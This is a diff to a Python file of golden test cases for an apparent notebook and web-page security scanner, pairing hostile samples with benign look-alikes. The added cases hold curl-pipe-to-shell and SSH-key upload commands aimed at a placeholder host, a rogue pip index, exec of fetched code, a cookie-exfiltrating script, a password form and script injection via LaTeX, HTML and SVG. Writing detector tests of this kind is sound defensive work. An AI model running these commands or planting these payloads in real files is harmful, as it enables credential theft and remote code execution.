@@ -1,5 +1,6 @@
 """Notebooks, pages and lists of packages."""
 
+import base64
 import json
 
 from golden.pairs import Golden
@@ -21,6 +22,7 @@ def _shows(kind: str, text: str) -> dict[str, object]:
     return {"outputs": [{"output_type": "display_data", "data": {kind: [text]}, "metadata": {}}]}
 
 
+_SVG = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('x')</script></svg>").decode()
 _PLOT = "<div id='p'></div><script>require.config({}); Plotly.newPlot('p', []); fetch('x')</script>"
 
 GOLDENS = [
@@ -81,5 +83,60 @@ GOLDENS = [
         "---\nx: !!python/object/apply:os.system ['echo hi']\n---\n# Card\n",
         "---\nlicense: mit\n---\n# Card\n",
         "in a card",
+    ),
+    _notebook(
+        "notebook.shell", {"source": "x = 1\n!!curl -s http://203.0.113.7/a | sh"}, {"source": "!!ls"}, "two marks"
+    ),
+    _notebook(
+        "notebook.shell",
+        {"source": "!curl -F f=@/home/u/.ssh/id_rsa http://203.0.113.7/"},
+        {"source": "!curl -fsSL https://ollama.com/install.sh | sh"},
+        "file sent",
+    ),
+    _notebook(
+        "requirements.index",
+        {"source": "%pip install --index-url http://203.0.113.7/simple x"},
+        {"source": "%pip install --index-url https://download.pytorch.org/whl/cpu torch"},
+        "pip in a cell",
+    ),
+    _notebook(
+        "python.fetched-execution",
+        {"source": "import requests\nexec(requests.get('http://203.0.113.7/a').text)"},
+        {"source": "import requests\nrequests.get('http://203.0.113.7/a').text"},
+        "cell",
+    ),
+    _notebook(
+        "markup.active",
+        _shows("text/latex", r"$\href{javascript:alert(1)}{x}$"),
+        _shows("text/latex", r"$\alpha$"),
+        "LaTeX",
+    ),
+    _notebook(
+        "markup.active",
+        _shows("text/html", "<form action='http://203.0.113.7'><input type=password></form>"),
+        _shows(
+            "text/html",
+            "<button onClick=\"this.nextSibling.style.display='block'\">Show</button><iframe src='https://wandb.ai/x'></iframe>",
+        ),
+        "password",
+    ),
+    _notebook(
+        "markup.script",
+        _shows("text/html", "<script src=http://203.0.113.7/x.js></script>"),
+        _shows("text/html", '<script src="https://cdn.plot.ly/plotly-2.27.0.min.js"></script>'),
+        "from elsewhere",
+    ),
+    _notebook(
+        "markup.script",
+        {"cell_type": "markdown", "attachments": {"a": {"image/svg+xml": _SVG}}},
+        {"cell_type": "markdown", "source": "```html\n<script>alert(1)</script>\n```"},
+        "attachment",
+    ),
+    _page(
+        "markup.script",
+        "<html><script>new Image().src = 'http://203.0.113.7/?' + document.cookie</script></html>",
+        "<html><script>console.log(1); window.dataLayer = [];</script><script src='https://cdn.jsdelivr.net/x.js'></script></html>",
+        "page",
+        "report.html",
     ),
 ]
